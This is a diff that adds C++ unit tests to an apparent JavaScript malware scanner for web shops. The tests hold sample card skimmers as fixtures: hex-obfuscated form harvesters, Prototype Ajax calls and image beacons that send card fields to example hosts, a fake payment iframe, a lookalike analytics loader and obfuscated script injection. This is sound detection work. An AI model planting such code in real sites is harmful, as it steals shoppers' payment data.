@@ -5,10 +5,12 @@
 
 #include <algorithm>
 #include <cstdint>
+#include <cstdio>
 #include <string>
 #include <vector>
 
 #include "webroot/code_lexer.h"
+#include "webroot/normalize.h"
 
 namespace tq::webroot {
 namespace {
@@ -278,6 +280,152 @@ TEST(BehaviourJs, CodeRunFromAFetchedImage) {
              "define('l', [], function(){ return new Function('m', src); });")));
   // A script fetched and run is a loader's business, not an image.
   EXPECT_FALSE(has(Js("fetch('/js/app.js').then(function(r){return r.text();}).then(eval);")));
+}
+
+bool Has(const std::vector<CodeTrait>& out, std::string_view id, int strength = 3) {
+  for (const CodeTrait& c : out)
+    if (c.id == id && c.strength >= strength) return true;
+  return false;
+}
+
+TEST(BehaviourJs, StylesheetsAndFontsFetchedAndRunAreImageLoaders) {
+  auto has = [](const std::vector<CodeTrait>& out) { return Has(out, "js.image_code_loader", 1); };
+  EXPECT_TRUE(
+      has(Js("fetch('/static/css/styles-l.css').then(function(r){return r.text();})"
+             ".then(function(c){eval(atob(c.split('/*!').pop().split('*/')[0]));});")));
+  // A stylesheet fetched and put into a <style> element is a theme switcher.
+  EXPECT_FALSE(
+      has(Js("fetch('/static/css/dark.css').then(function(r){return r.text();})"
+             ".then(function(c){document.getElementById('theme').textContent = c;});")));
+}
+
+TEST(BehaviourJs, NamesWrittenAsHexEscapesAreHidden) {
+  // Letters written as \x escapes: the names and the host are hidden, so every field read on
+  // submit and sent there is a harvest.
+  auto hidden = Normalize(
+      "var w=window,d=w['\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74'];d.addEventListener('submit',"
+      "function(){var "
+      "n=d['\\x71\\x75\\x65\\x72\\x79\\x53\\x65\\x6c\\x65\\x63\\x74\\x6f\\x72\\x41\\x6c\\x6c']"
+      "('input,select');var v='';for(var i=0;i<n.length;i++)v+=n[i].value;w['fetch']("
+      "'\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f"
+      "\\x63',"
+      "{method:'POST',body:v});},true);",
+      CodeKind::kJs);
+  EXPECT_TRUE(Has(hidden.traits, "js.card_exfil"));
+  // The same harvest with the URL in plain text, and escapes that stand for what cannot be
+  // typed (accents, a '<' kept out of a script tag), hide nothing.
+  auto plain = Normalize(
+      "var msg='Pr\\u00e9nom \\x3cb\\x3e';document.addEventListener('submit',function(){"
+      "var n=document.querySelectorAll('input');var v='';for(var i=0;i<n.length;i++)"
+      "v+=n[i].value;fetch('https://c.example/c',{method:'POST',body:v});},true);",
+      CodeKind::kJs);
+  EXPECT_FALSE(Has(plain.traits, "js.card_exfil"));
+}
+
+TEST(BehaviourJs, PrototypeAjaxIsAChannel) {
+  // Magento 1: card fields sent with new Ajax.Updater to another host.
+  EXPECT_TRUE(Has(Js("$$('input[name^=\"payment[cc_\"]').each(function(el){el.observe('blur',"
+                     "function(){new Ajax.Updater('box','//lib.example/u',{parameters:"
+                     "{v:escape(el.value)}});});});"),
+                  "js.card_exfil"));
+  // The payment form serialised, base64-encoded and posted with Ajax.Request elsewhere.
+  EXPECT_TRUE(Has(Js("Event.observe($('payment-buttons-container'),'click',function(){"
+                     "var p=$('co-payment-form').serialize(true);new Ajax.Request("
+                     "'https://track.example/t',{parameters:{p:btoa(Object.toJSON(p))}});});"),
+                  "js.card_exfil"));
+  // Magento 1's own payment step saving to the store's checkout URL.
+  EXPECT_FALSE(Has(Js("new Ajax.Request(this.saveUrl,{method:'post',parameters:"
+                      "Form.serialize(this.form)});var payment=new Payment('co-payment-form',"
+                      "'https://shop.example.com/checkout/onepage/savePayment/');"),
+                   "js.card_exfil", 1));
+}
+
+TEST(BehaviourJs, CardFieldPrefixesAreCardFields) {
+  EXPECT_TRUE(Has(Js("document.addEventListener('change',function(e){if(e.target.name."
+                     "indexOf('cc_')>-1){new Image().src='https://i.example/p.gif?'+"
+                     "e.target.name+'='+e.target.value;}});"),
+                  "js.card_exfil"));
+  // The prefix alone, styling card fields, sends nothing.
+  EXPECT_TRUE(Js("document.querySelectorAll('input').forEach(function(i){if(i.name.indexOf("
+                 "'cc_')===0)i.classList.add('card');});")
+                  .empty());
+}
+
+TEST(BehaviourJs, AnIframeFromAnotherHostInThePaymentStep) {
+  EXPECT_TRUE(Has(Js("if(/checkout/.test(location.pathname)){var f=document.createElement("
+                     "'iframe');f.src='https://pay-frame.example/f.html';document."
+                     "getElementById('payment_form_x').appendChild(f);}"),
+                  "js.fake_payment_frame"));
+  // A provider's hosted fields frame its own host; a video embed is not in the payment step.
+  EXPECT_FALSE(Has(Js("var f=document.createElement('iframe');f.src='https://assets."
+                      "braintreegateway.com/hosted-fields/frame.html';document.querySelector("
+                      "'#payment-form').appendChild(f);"),
+                   "js.fake_payment_frame", 1));
+  EXPECT_FALSE(Has(Js("var f=document.createElement('iframe');f.src='https://video.example/"
+                      "e/1';document.getElementById('product-video').appendChild(f);"),
+                   "js.fake_payment_frame", 1));
+}
+
+TEST(BehaviourJs, LoadersFromHostsDressedAsProviders) {
+  const char* ga =
+      "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;a=s.createElement(o),m=s."
+      "getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,"
+      "document,'script','%s','ga');";
+  char buf[512];
+  snprintf(buf, sizeof buf, ga, "https://www.google-analytics.com.stats.example/analytics.js");
+  EXPECT_TRUE(Has(Js(buf), "js.script_injection"));
+  snprintf(buf, sizeof buf, ga, "https://www.google-analytics.com/analytics.js");
+  EXPECT_FALSE(Has(Js(buf), "js.script_injection"));
+  std::vector<CodeTrait> html;
+  AnalyzeHtml("<script src=\"https://cdn-jquery.example/jquery.min.js\"></script>", "html", html);
+  EXPECT_TRUE(Has(html, "html.external_script"));
+  html.clear();
+  AnalyzeHtml(
+      "<script src=\"https://code.jquery.com/jquery.min.js\"></script>"
+      "<script src=\"https://cdn.shop.example/app.js\"></script>",
+      "html", html);
+  EXPECT_FALSE(Has(html, "html.external_script", 2));
+}
+
+TEST(BehaviourJs, APaymentSdkNamesCardFieldsFarFromItsRequests) {
+  // Card fields named in form code and a request to a provider's regional host far away in a
+  // large bundle: the SDK's transport, not a skimmer. The same pieces in one function are.
+  std::string filler;
+  for (int i = 0; i < 900; ++i) filler += "a" + std::to_string(i) + "=b+c;";
+  std::string form =
+      "var fields={number:'cardnumber',code:'cvc'};document.querySelector('#checkout');";
+  std::string send =
+      "var x=new XMLHttpRequest();x.open('POST','https://payments.region.example/v1');";
+  EXPECT_FALSE(Has(Js(form + filler + send), "js.card_exfil", 1));
+  EXPECT_TRUE(Has(Js(filler + form + send + filler), "js.card_exfil"));
+}
+
+TEST(BehaviourJs, CodeFromAWebSocketPutIntoAScriptElement) {
+  EXPECT_TRUE(Has(Js("var ws=new WebSocket('wss://w.example/ws');ws.onmessage=function(m){"
+                     "var s=document.createElement('script');s.textContent=m.data;"
+                     "document.body.appendChild(s);};"),
+                  "js.remote_code"));
+  // A chat widget: its socket carries messages, its script element loads its own library.
+  EXPECT_FALSE(Has(Js("var ws=new WebSocket('wss://chat.example/ws');ws.onmessage=function(m){"
+                      "box.textContent=m.data;};var s=document.createElement('script');"
+                      "s.src='https://chat.example/widget.js';document.head.appendChild(s);"),
+                   "js.remote_code", 1));
+}
+
+TEST(BehaviourJs, ConstructorOfConstructorRunsCharacterCodesPassedAsAnArray) {
+  std::string code = "var s=document.createElement('script');s.src='https://lib.example/x.js';";
+  std::string codes;
+  for (char c : code) codes += (codes.empty() ? "" : ",") + std::to_string(int(c));
+  NormalizedCode n = Normalize(
+      "[]['constructor']['constructor'](String.fromCharCode.apply(null,[" + codes + "]))();",
+      CodeKind::kJs);
+  EXPECT_TRUE(Has(n.traits, "js.script_injection"));
+  // A UTF-16 decoder applying fromCharCode to a buffer it was given: nothing to fold.
+  NormalizedCode d = Normalize(
+      "function decode(buf){return String.fromCharCode.apply(null,new Uint16Array(buf));}",
+      CodeKind::kJs);
+  EXPECT_TRUE(d.traits.empty());
+  EXPECT_EQ(d.layers.size(), 1u);
 }
 
 }  // namespace
